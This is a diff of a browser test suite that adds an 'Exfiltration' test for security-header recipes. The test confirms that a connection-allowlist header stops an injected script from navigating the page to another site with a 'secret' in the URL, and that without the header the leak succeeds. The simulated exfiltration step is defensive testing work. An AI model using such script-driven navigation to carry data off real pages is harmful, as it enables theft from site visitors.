@@ -158,6 +158,31 @@ test("Public assets: another site shows the public picture and not the private o
 	expect(await page.locator("img").evaluateAll((all) => all.map((image) => (image as HTMLImageElement).naturalWidth))).toEqual([8, 0]);
 });
 
+test.each([
+	["a script that was injected does not send the page elsewhere", true],
+	["without the header it does (control)", false],
+])("Exfiltration: %s", async (_title, isLimited) => {
+	const seen: string[] = [];
+	const elsewhere = await otherSite((path) => String(seen.push(path)));
+	const api = await otherSite(() => "hello");
+	recipe = await startRecipe("Exfiltration", { env: { API: api } });
+	const page = await browser.newPage();
+	await page.route(`${api}/**`, (route) => route.fulfill({ headers: { "access-control-allow-origin": "*" }, body: "hello" }));
+	if (!isLimited) {
+		await page.route(`${recipe.origin}/`, async (route) => {
+			const response = await route.fetch();
+			const headers = Object.entries(response.headers()).filter(([name]) => name !== "connection-allowlist");
+			await route.fulfill({ response, headers: Object.fromEntries(headers) });
+		});
+	}
+	await page.goto(`${recipe.origin}/`);
+	await page.waitForFunction(runs);
+	await page.evaluate((url) => void setTimeout(() => location.assign(`${url}/?secret`)), elsewhere);
+	await page.waitForEvent("framenavigated");
+	expect(seen.filter((path) => path !== "/favicon.ico")).toEqual(isLimited ? [] : ["/?secret"]);
+	await page.close();
+});
+
 test("Service workers: the worker is registered and answers", async () => {
 	recipe = await startRecipe("Service workers");
 	const { page, violations } = await visit(browser, `${recipe.origin}/`);
@@ -224,8 +249,8 @@ describe("the page of recipes", () => {
 	test("has no section whose code is not run here or beside", () => {
 		const run = ["EJS", "Pug", "Handlebars", "Nunjucks", "Eta", "React", "Vue", "Vite in development", "A built single-page app"].concat(
 			["Swagger UI", "Bull Board", "Apollo Server", "Payments and other vendors"],
-			["Socket.IO", "WebSocket and GraphQL", "OAuth popups", "Frames for partners", "Public assets", "Service workers"],
 			["Frames for tenants", "OAuth consent pages", "Server-sent events", "Files of visitors", "PDF preview"],
+			["Socket.IO", "WebSocket and GraphQL", "OAuth popups", "Frames for partners", "Public assets", "Service workers", "Exfiltration"],
 			["Caching pages with a nonce", "Report-only first", "Reports of framing", "A framework with a policy of its own"],
 		);
 		expect([...RECIPES.keys()].sort()).toEqual(run.sort());
